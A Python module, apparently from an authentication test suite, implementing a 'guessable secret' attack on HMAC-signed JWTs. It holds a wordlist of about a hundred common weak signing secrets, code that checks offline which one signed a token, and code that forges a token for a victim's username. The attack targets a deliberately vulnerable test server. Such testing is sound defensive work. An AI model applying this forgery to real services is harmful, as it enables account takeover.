"""Guessable secrets: whoever finds one token tries them at home, as many as he likes."""

import hmac

from loadtests.attacks.attack import Attack
from loadtests.attacks.laboratory.condition import Control
from loadtests.attacks.laboratory.forgeries import Forger, forger
from loadtests.attacks.laboratory.jws import decoded, encoded, signing_input, with_hmac
from loadtests.attacks.laboratory.lab import AttackLab, AttackResult

SECRETS = (
    "", "secret", "Secret", "SECRET", "secretkey", "secret_key", "secret-key", "SECRET_KEY", "mysecret",
    "my_secret", "my-secret", "my_secret_key", "mysecretkey", "supersecret", "super_secret", "super-secret",
    "supersecretkey", "your-256-bit-secret", "your-384-bit-secret", "your-512-bit-secret", "your_secret",
    "your_secret_key", "your-secret-key", "yoursecretkey", "changeme", "change_me", "change-me", "changeit",
    "password", "Password", "password1", "passw0rd", "p@ssw0rd", "123456", "12345678", "1234567890", "admin",
    "root", "test", "testing", "test123", "testsecret", "test_secret", "dev", "development", "production",
    "key", "private", "privatekey", "private_key", "jwt", "JWT", "jwtsecret", "jwt_secret", "jwt-secret",
    "jwtsecretkey", "JWT_SECRET", "JWT_SECRET_KEY", "token", "token_secret", "tokensecret", "access_token",
    "session", "session_secret", "sessionsecret", "keyboard cat", "shhhhh", "shhhhhh", "hmac", "HS256",
    "signature", "sign", "qwerty", "letmein", "welcome", "default", "example", "example_key", "hello",
    "helloworld", "hello world", "django-insecure", "dev-secret", "flask-secret", "insecure", "placeholder",
    "todo", "null", "none", "undefined", "abc123", "abcdefg", "a", "x", "0", "\x00", "authbench",
    "authbench secret", "09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7",
    "AyM1SysPpbyDfgZld3umj1qzKObwVMkoqQ-EstJQLr_T-1qS0gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr1Z9CAow",
)  # fmt: skip
"""Those of tutorials, of templates and of RFC 7515's own example, and what people type."""


class GuessableSecret(Attack):
    """Try each secret on the attacker's own token; sign the victim's claims with the one that fits."""

    row = "G4"
    name = "guessable secret"
    question = "Is the secret that signs one of a hundred that everybody tries?"
    sources = (
        "RFC 8725 section 3.5",
        "RFC 7518 section 3.2",
        "OWASP JSON Web Token for Java: weak token secret",
    )
    control = Control("servers.vulnerable.tokens.verification:VulnerableSecret")

    def run(self, lab: AttackLab) -> AttackResult:
        made = forger(lab)
        lab.figure("secrets tried offline", len(SECRETS))
        fitting = [secret for secret in SECRETS if _signed_with(made.presented.text, secret.encode())]
        # Two are presented in any case: also where nothing is signed, the server is asked.
        forgeries = {
            f"signed with {secret!r}": _forged(made, secret.encode()) for secret in [*fitting, "secret", ""]
        }
        return made.result(forgeries, f"none of {len(SECRETS)} secrets made the attacker's own credential")


def _signed_with(text: str, secret: bytes) -> bool:
    signed, _, signature = text.rpartition(".")
    # What is signed but no token ends its message with a dot.
    messages = (signed.encode(), signed.encode() + b".")
    return any(encoded(hmac.digest(secret, message, "sha256")) == signature for message in messages)


def _forged(made: Forger, secret: bytes) -> str:
    content, dot, rest = made.presented.text.partition(".")
    if made.genuine is None and dot and "." not in rest:
        try:
            own, other = made.attacker.username.encode(), made.victim.username.encode()
            changed = encoded(decoded(content).replace(own, other))
        except ValueError:
            return signing_input(made.header, made.claims) + "."
        return f"{changed}.{encoded(hmac.digest(secret, changed.encode() + b'.', 'sha256'))}"
    return with_hmac({**made.header, "alg": "HS256"}, made.claims, secret)
